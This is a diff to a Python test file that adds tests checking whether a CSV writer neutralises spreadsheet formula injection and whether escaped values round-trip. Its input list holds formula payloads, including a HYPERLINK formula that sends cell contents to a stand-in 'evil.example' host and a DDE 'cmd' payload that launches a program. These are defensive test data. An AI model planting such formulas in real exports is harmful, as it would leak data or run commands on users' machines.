@@ -15,7 +15,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from pipeline.engine.fingerprint import PROJECT
-from pipeline.frame.metrics_files import write_metrics, write_plot
+from pipeline.frame.metrics_files import cell_value, write_metrics, write_plot
 from pipeline.labels import description, rules
 
 
@@ -68,7 +68,7 @@ def test_a_plot_is_csv_with_a_header_and_rounded_numbers(tmp_path: Path) -> None
     assert plot_text(tmp_path, ("label", "share"), []) == "label,share\n"
 
 
-TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\r\0"), max_size=8)
+TEXT = st.text(st.one_of(st.sampled_from("=+-@'\t\r\n;,\" 1."), st.characters(codec="utf-8")), max_size=8)
 
 
 @given(st.lists(st.tuples(TEXT, st.integers(), st.floats(-1e6, 1e6)), max_size=5))
@@ -78,7 +78,36 @@ def test_what_was_written_is_what_a_reader_of_csv_reads(
     text = plot_text(tmp_path_factory.mktemp("plot"), ("a", "b", "c"), list(rows))
     header, *read = csv.reader(io.StringIO(text, newline=""))
     assert header == ["a", "b", "c"]
-    assert [(a, int(b), float(c)) for a, b, c in read] == [(a, b, round(c, 6)) for a, b, c in rows]
+    assert [(cell_value(a), int(b), float(c)) for a, b, c in read] == [(a, b, round(c, 6)) for a, b, c in rows]
+    for cell in (cell for cells in ([row[0] for row in read], header) for cell in cells):
+        for part in re.split(r"[;\t\r\n]", cell):
+            assert not part.lstrip(" \xa0\ufeff").startswith(("=", "+", "-", "@")) or re.fullmatch(r"[-+\d.]+", cell)
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\ufeff=1", "\0=1", "＝1+1",
+        "'=1", "''", "x;=1", "x\t=1", "x\n=1", "x\r=1", "-", "--5", "-3.5.1", "-3.5;=1", "-inf", "+1e", '"=1',
+        '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0",
+    ],
+)  # fmt: skip
+def test_no_cell_is_a_formula_and_its_value_can_be_had_back(tmp_path: Path, attack: str) -> None:
+    text = plot_text(tmp_path, (attack, "number"), [(attack, -3.5), ("after", -1)])
+    (header, _), (cell, number), after = csv.reader(io.StringIO(text, newline=""))
+    assert (cell_value(header), cell_value(cell), number, after) == (attack, attack, "-3.5", ["after", "-1"])
+    assert header == cell
+    for part in re.split(r"[;\t\r\n]", cell):
+        assert part.strip(" \xa0\ufeff\0")[:1] not in {"=", "+", "-", "@", "＝"}
+    assert cell != attack or attack.startswith('"')
+    frame = pd.read_csv(tmp_path / "plots" / "plot.csv")  # which takes a lone carriage return for the end of a row
+    assert (len(frame), frame["number"].tolist()) == (2, [-3.5, -1.0])
+
+
+@pytest.mark.parametrize("text", ["-3.5", "+2", "-1e-06", "1234-1", "a-b", "a = b", "it's", "x@y", "2, -3"])
+def test_numbers_and_harmless_text_stay_as_they_are(tmp_path: Path, text: str) -> None:
+    rows = list(csv.reader(io.StringIO(plot_text(tmp_path, ("a",), [(text,)]), newline="")))
+    assert rows == [["a"], [text]]
 
 
 # Seven rows of two voices: probabilities of [anger, excitement, sadness] and [anger, disgust, excitement, sadness].
